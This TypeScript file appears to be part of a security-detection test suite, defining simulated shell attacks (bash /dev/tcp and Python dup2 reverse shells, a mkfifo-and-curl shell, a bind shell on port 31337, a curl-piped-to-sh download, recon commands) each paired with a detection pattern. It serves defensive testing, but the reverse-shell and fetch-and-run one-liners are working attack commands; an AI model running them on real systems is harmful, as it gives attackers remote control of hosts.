/** Attacks by shells: reverse, bound to a port, by way of the web, fetched, and by the runtime's own door. */
import { taskAddress } from '../place.ts';
import { becomes, fileOf, heard, inside, type Attack, type World } from '../attack.ts';

/** What an intruder types first; then he goes. */
const greeting = 'id; sleep 1; exit\n';

async function lair(world: World, port: number): Promise<{ address: string; port: number }> {
  const place = { address: world.stranger(), port };
  await world.outside.ask('openLair', { ...place, greeting });
  return place;
}

export const shells: readonly Attack[] = [
  {
    name: 'reverse shell by bash',
    kind: 'shell',
    concerns: /bash|shell/i,
    async play(world) {
      const place = await lair(world, 4444);
      await inside(world, world.worker(), `launch(['/bin/bash', '-c', 'bash -i >& /dev/tcp/${place.address}/${place.port} 0>&1'])`);
      return heard(world, place, /uid=1001/);
    },
  },
  {
    name: 'reverse shell by dup2',
    kind: 'shell',
    concerns: /shell|dash|\bsh\b|socket/i,
    async play(world) {
      const place = await lair(world, 443);
      await inside(
        world,
        world.worker(),
        `
def act():
    s = socket.create_connection(('${place.address}', ${place.port}))
    for number in (0, 1, 2):
        os.dup2(s.fileno(), number)
    os.execv('/bin/sh', ['sh'])
child(act)`,
      );
      return heard(world, place, /uid=1001/);
    },
  },
  {
    name: 'reverse shell through a fifo',
    kind: 'shell',
    concerns: /shell|dash|\/sh\b|curl|mkfifo|telnet/i,
    async play(world) {
      const place = await lair(world, 8081);
      await inside(world, world.worker(), `launch(['/bin/sh', '-c', 'mkfifo /tmp/.p; sh -i < /tmp/.p 2>&1 | curl -sN telnet://${place.address}:${place.port} > /tmp/.p'])`);
      return heard(world, place, /uid=1001/);
    },
  },
  {
    name: 'shell bound to a port',
    kind: 'shell',
    concerns: /31337|shell|dash|\/sh\b|listen/i,
    async play(world) {
      await inside(
        world,
        world.worker(),
        `
def act():
    l = socket.create_server(('0.0.0.0', 31337))
    l.settimeout(6)
    s, _ = l.accept()
    s.setblocking(True)
    for number in (0, 1, 2):
        os.dup2(s.fileno(), number)
    os.execv('/bin/sh', ['sh'])
child(act)`,
      );
      const listens = String.raw`say(open('/proc/net/tcp').read().count(':7A69 '))`;
      await becomes(async () => (await inside(world, 'scheduler', listens)) !== '0', 'nothing listens on 31337');
      const said = await world.outside.ask('callIn', { address: taskAddress, port: 31_337, words: greeting });
      if (!said.includes('uid=1001')) throw new Error(`the bound shell said ${said}`);
      return 'the bound shell answered a call from outside';
    },
  },
  {
    name: 'command by a web shell',
    kind: 'shell',
    concerns: /\/sh\b|dash|\bid\b|shell/i,
    async play(world) {
      const said = await inside(world, world.worker(), `say(os.popen('id; cat /etc/hostname').read())`);
      if (!said.includes('uid=1001')) throw new Error(`id said ${said}`);
      return 'the command printed its user';
    },
  },
  {
    name: 'script fetched and run',
    kind: 'shell',
    concerns: /curl|\/sh\b|dash|shell|destination|\b80\b/i,
    async play(world) {
      const place = { address: world.stranger(), port: 80 };
      await world.outside.ask('openLair', { ...place, body: 'echo done > /tmp/.i\n' });
      await inside(world, world.worker(), `launch(['/bin/sh', '-c', 'curl -s http://${place.address}/i.sh | sh'])`);
      await becomes(() => fileOf(world, '/tmp/.i').includes('done'), 'the script left no file');
      return 'the script left its file';
    },
  },
  {
    name: 'commands of a scout, milliseconds each',
    kind: 'shell',
    concerns: /\bid\b|whoami|uname|program/i,
    async play(world) {
      const said = await inside(world, world.worker(), `for words in (['/usr/bin/whoami'], ['/usr/bin/uname', '-a'], ['/usr/bin/id']):\n    say(subprocess.run(words, capture_output=True, text=True).stdout)`);
      if (!said.includes('Linux')) throw new Error(`uname said ${said}`);
      return 'the commands printed their answers';
    },
  },
  {
    name: 'session by the runtime',
    kind: 'shell',
    concerns: /shell|bash|session|program/i,
    async play(world) {
      const said = await world.task.exec(world.app, ['/bin/bash', '-c', 'hostname; cat /proc/1/cmdline > /dev/null; sleep 1; whoami']);
      if (!said.includes('root')) throw new Error(`whoami said ${said}`);
      return 'the session printed its user';
    },
  },
];
